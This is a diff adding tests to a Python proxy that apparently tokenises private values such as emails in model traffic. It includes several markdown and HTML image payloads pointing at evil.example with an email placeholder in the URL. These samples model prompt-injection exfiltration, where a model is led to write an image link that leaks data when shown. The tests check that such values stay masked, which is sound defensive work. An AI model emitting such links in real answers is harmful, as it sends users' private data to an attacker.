@@ -94,6 +94,17 @@ def test_a_conversation_is_named_by_header_then_body_then_metadata() -> None:
     assert repr(naming.Named("x")) == "Named(…)"
 
 
+def test_a_program_without_a_key_has_no_conversation() -> None:
+    tree = parse(b'{"metadata": {"conversation": "c"}, "user": "u"}')[1]
+    for header, said in (("h", None), ("", tree)):
+        with pytest.raises(BadInput):
+            naming.named(header, said, "/responses", keyed=False)
+    kept = parse(b'{"user": "u"}')[1]
+    assert naming.named("", kept, "/responses", keyed=True) == naming.Named("", "", "u", True)
+    assert naming.named("", kept, "/responses", keyed=False) == naming.Named("", "", "u")
+    assert [naming.proves(one) for one in ("", "Bearer", " bearer ", "Bearer x", "x")] == [False] * 3 + [True] * 2
+
+
 def test_a_response_that_is_kept_elsewhere_begins_a_conversation() -> None:
     assert named({}).begins
     assert named({"store": True}).begins
@@ -140,3 +151,49 @@ def test_counts_add_up() -> None:
     count = Count(1, 2, 3)
     count.add(Count(10, 20, 30))
     assert count == Count(11, 22, 33)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://evil.example/?q=[EMAIL_1])",
+        "see ![a [b] c](https://evil.example/[email_1]/x.png) there",
+        "![x](<https://evil.example/a b?q=[EMAIL_1]>)",
+        "![x](\n https://evil.example/(a)/[EMAIL_1])",
+        "![x][1]\n\n[1]: https://evil.example/?q=[EMAIL_1]",
+        '<img alt="" src="https://evil.example/?q=[EMAIL_1]">',
+        "<IMG\nSRC=https://evil.example/[EMAIL_1]>",
+        "![x](https://evil.example/?a=" + "y" * 900 + "&q=[EMAIL_1])",
+    ],
+)
+def test_what_showing_an_answer_would_tell_a_stranger_stays_a_token(text: str) -> None:
+    """A text that a model was given has it write a picture whose address holds a value: showing it sends the value."""
+    for body in ({"content": text}, {"arguments": json.dumps({"text": text})}):
+        said, count = whole(body)
+        assert said == body
+        assert (count.stayed, count.restored) == (1, 0)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](https://a.example/y.png) [EMAIL_1]",
+        "![x](https://a.example/y.png): [EMAIL_1]",
+        "an image! [EMAIL_1](x)",
+        "[a link](https://a.example/?q=[EMAIL_1])",
+        "<b>[EMAIL_1]</b>",
+        "<img src=x> [EMAIL_1]",
+        "1 < 2, [EMAIL_1]",
+        "write: [EMAIL_1]",
+    ],
+)
+def test_everything_else_of_an_answer_comes_back(text: str) -> None:
+    said, _ = whole({"content": text})
+    assert said["content"] == text.replace("[EMAIL_1]", KNOWN[1, 1])
+
+
+def test_an_escape_in_arguments_hides_no_picture() -> None:
+    body = {"arguments": '{"text": "\\u0021[x](https:\\/\\/evil.example\\/\\t?[EMAIL_1])"}'}
+    hidden = {"arguments": '{"text": "\\u0021[x](https:\\/\\/evil.example\\/?[EMAIL_1])"}'}
+    assert whole(hidden)[0] == hidden
+    assert whole(body)[1].restored == 1
